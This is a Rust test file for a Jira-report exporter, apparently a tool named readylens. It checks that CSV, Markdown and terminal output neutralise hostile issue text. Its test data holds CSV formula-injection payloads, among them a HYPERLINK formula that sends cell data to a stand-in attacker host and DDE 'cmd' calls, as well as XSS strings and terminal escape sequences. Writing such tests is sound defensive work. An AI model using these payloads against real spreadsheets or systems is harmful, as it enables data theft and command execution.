#![cfg(not(target_arch = "wasm32"))]
//! Exports a spreadsheet or a wiki will open: hostile issue text must not become a
//! formula (CSV) or break the table / inject structure (Markdown).

use readylens::import;
use readylens::render::{render, OutputFormat};
use readylens::{analyze, Config, Report};

/// Jira REST issues with the given (key, summary) pairs and a shared description, so
/// that identical pairs are flagged as likely duplicates of each other.
fn report(items: &[(&str, &str)]) -> Report {
    // Description from tests/fixtures/import/jira_agile_backlog.json (MESOS-313).
    let issues: Vec<serde_json::Value> = items
        .iter()
        .map(|(k, s)| {
            serde_json::json!({"key": k, "fields": {
                "summary": s,
                "description": "The Scheduler interface has a callback for executorLost, but currently it is never called.",
                "issuetype": {"name": "Story"}
            }})
        })
        .collect();
    let body = serde_json::json!({ "issues": issues }).to_string();
    let imp = import::import("hostile", body.as_bytes(), None).expect("imports");
    assert_eq!(imp.issues.len(), items.len(), "{:?}", imp.problems);
    analyze(&imp.issues, &Config::default())
}

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// Every cell of the CSV export: no cell may start with = + - @ (nor tab / CR) unless
/// it is prefixed with an apostrophe. Checked by parsing the CSV back, cell by cell.
#[test]
fn csv_export_neutralises_formula_cells_in_every_column() {
    let mut items: Vec<(String, String)> = Vec::new();
    for (n, f) in FORMULAS.iter().enumerate() {
        // As a title, and as a key (keys are issue text too: a CSV import takes them
        // from a column). The same title twice makes each a duplicate of the other,
        // so the hostile keys also reach the "duplicates" column.
        items.push((
            f.to_string(),
            format!("Export a report to the team wiki {n}"),
        ));
        items.push((format!("OK-{n}"), f.to_string()));
        items.push((
            format!("{f}{n}"),
            format!("Export a report to the team wiki {n}"),
        ));
    }
    let pairs: Vec<(&str, &str)> = items
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    let r = report(&pairs);
    assert!(
        r.issues.iter().any(|i| !i.duplicates.is_empty()),
        "the fixture must produce duplicates so that column is exercised"
    );
    let out = render(&r, OutputFormat::Csv);
    let mut rd = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(out.as_bytes());
    let mut rows = 0;
    for rec in rd.records() {
        let rec = rec.expect("the export is valid CSV");
        rows += 1;
        for (col, cell) in rec.iter().enumerate() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "row {rows} column {col} is a live formula: {cell:?}"
            );
        }
    }
    assert_eq!(rows, r.issues.len());
    // The apostrophe is the only change: the text is still there after it.
    for f in FORMULAS {
        assert!(out.contains(&format!(
            "'{}",
            f.trim_start_matches(['\t', '\r']).get(..1).unwrap_or("")
        )));
    }
}

/// Markdown: each issue stays one table row with exactly five cells, whatever its key
/// and title hold (pipes, escaped pipes, CR, LF, backticks, HTML), checked by parsing
/// the output with a GFM table parser.
#[test]
fn markdown_table_rows_survive_pipes_and_line_breaks() {
    let hostile = [
        ("MD-1", "Export | import | sync"),
        ("MD-2", "A title with a trailing backslash \\"),
        ("MD-3", "An escaped \\| pipe"),
        ("MD-4", "Line one\nLine two\r\nLine three\rLine four"),
        ("MD-5|X", "Key with a pipe"),
        ("MD-6\nY", "Key with a newline"),
        ("MD-7\rZ", "Key with a carriage return"),
        ("MD-8", "`code | span` and ``double `tick` | pipe``"),
        (
            "MD-9",
            "<img src=x onerror=alert(1)> and <script>alert(1)</script>",
        ),
        (
            "MD-10",
            "# not a heading\n- not a list\n| not | a | table |",
        ),
    ];
    let r = report(&hostile);
    let md = render(&r, OutputFormat::Markdown);
    use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
    let mut tables = Vec::new(); // per table: rows of cell counts
    let mut cur_rows: Vec<usize> = Vec::new();
    let mut cells = 0;
    let mut html = Vec::new();
    for ev in Parser::new_ext(&md, Options::ENABLE_TABLES) {
        match ev {
            Event::Start(Tag::TableRow) | Event::Start(Tag::TableHead) => cells = 0,
            Event::Start(Tag::TableCell) => cells += 1,
            Event::End(TagEnd::TableRow) | Event::End(TagEnd::TableHead) => cur_rows.push(cells),
            Event::End(TagEnd::Table) => tables.push(std::mem::take(&mut cur_rows)),
            Event::Html(h) | Event::InlineHtml(h) => html.push(h.to_string()),
            _ => {}
        }
    }
    let all = tables.last().expect("an 'All issues' table");
    assert_eq!(
        all.len(),
        hostile.len() + 1,
        "one row per issue plus the head:\n{md}"
    );
    assert!(
        all.iter().all(|&n| n == 5),
        "every row has five cells: {all:?}\n{md}"
    );
    // Every key and title is in the table: nothing spilled out of it.
    let table_start = md.find("## All issues").expect("section");
    let table_text = md.get(table_start..).unwrap_or("");
    let after_table = table_text
        .lines()
        .skip_while(|l| !l.starts_with('|'))
        .skip_while(|l| l.starts_with('|'));
    assert_eq!(
        after_table.filter(|l| !l.trim().is_empty()).count(),
        0,
        "{md}"
    );
    // Issue text must not become raw HTML in a wiki that renders it.
    assert!(html.is_empty(), "raw HTML from issue text: {html:?}");
}

/// The CLI's text report goes to a terminal: escape sequences in issue text (colour
/// changes, window-title rewrites, cursor moves) must not reach it.
#[test]
fn text_report_strips_terminal_control_characters() {
    let hostile = [
        ("ESC-1", "Title \x1b]0;pwned\x07 with an OSC title change"),
        ("ESC-2\x1b[2J", "Key clears the screen"),
        (
            "ESC-3",
            "Backspace\x08\x08\x08 and a bell \x07 and \x1b[31mred\x1b[0m",
        ),
    ];
    let r = report(&hostile);
    for color in [false, true] {
        let out = readylens::render::text(&r, color);
        for (n, line) in out.lines().enumerate() {
            let mut chars = line.chars().peekable();
            while let Some(c) = chars.next() {
                if c == '\x1b' && color {
                    // Our own SGR colour codes: ESC [ digits m.
                    assert_eq!(chars.next(), Some('['), "line {n}: {line:?}");
                    let mut code = String::new();
                    for d in chars.by_ref() {
                        if d == 'm' {
                            break;
                        }
                        code.push(d);
                    }
                    assert!(
                        ["0", "1", "2", "31", "32", "33"].contains(&code.as_str()),
                        "line {n}: {code:?} in {line:?}"
                    );
                } else {
                    assert!(!c.is_control(), "line {n}: control {c:?} in {line:?}");
                }
            }
        }
        assert!(out.contains("pwned"), "the text itself stays readable");
    }
}
